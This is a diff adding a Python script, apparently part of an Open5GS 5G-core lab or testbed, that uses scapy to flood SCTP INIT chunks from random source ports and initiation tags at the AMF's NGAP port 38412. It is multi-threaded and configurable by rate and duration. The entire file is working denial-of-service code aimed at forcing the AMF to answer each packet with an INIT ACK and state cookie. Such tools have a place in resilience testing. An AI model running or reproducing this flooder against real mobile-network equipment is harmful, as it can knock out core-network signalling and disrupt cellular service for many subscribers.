@@ -0,0 +1,59 @@
+#!/usr/bin/env python3
+"""SCTP INIT flood against the AMF's NGAP endpoint.
+
+Sends SCTP INIT chunks from random source ports and initiate tags to port
+38412, so the AMF answers every one with an INIT ACK and a state cookie.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP (defaults to the address of open5gs-amf-ngap), PACKET_RATE,
+DURATION, THREADS, SRC_PORT_MIN and SRC_PORT_MAX.
+"""
+
+import os
+import random
+import socket
+import threading
+import time
+
+from scapy.all import IP, send
+from scapy.layers.sctp import SCTP, SCTPChunkInit
+
+AMF_HOST = "open5gs-amf-ngap"
+TARGET_IP = os.environ.get("TARGET_IP") or socket.gethostbyname(AMF_HOST)
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "1000"))
+DURATION = int(os.environ.get("DURATION", "0"))
+THREADS = int(os.environ.get("THREADS", "1"))
+SRC_PORT_MIN = int(os.environ.get("SRC_PORT_MIN", "1024"))
+SRC_PORT_MAX = int(os.environ.get("SRC_PORT_MAX", "65535"))
+NGAP_PORT = 38412
+
+
+def flood(deadline, counter, lock):
+    interval = THREADS / PACKET_RATE if PACKET_RATE > 0 else 0
+    while deadline is None or time.time() < deadline:
+        init = SCTPChunkInit(init_tag=random.getrandbits(32), a_rwnd=65535,
+                             n_out_streams=2, n_in_streams=2,
+                             init_tsn=random.getrandbits(32))
+        send(IP(dst=TARGET_IP) / SCTP(sport=random.randint(SRC_PORT_MIN, SRC_PORT_MAX), dport=NGAP_PORT) / init,
+             verbose=False)
+        with lock:
+            counter[0] += 1
+            if counter[0] % 1000 == 0:
+                print("sent %d INIT chunks to %s" % (counter[0], TARGET_IP), flush=True)
+        if interval:
+            time.sleep(interval)
+
+
+def main():
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    counter, lock = [0], threading.Lock()
+    threads = [threading.Thread(target=flood, args=(deadline, counter, lock), daemon=True)
+               for _ in range(max(THREADS, 1))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+if __name__ == "__main__":
+    main()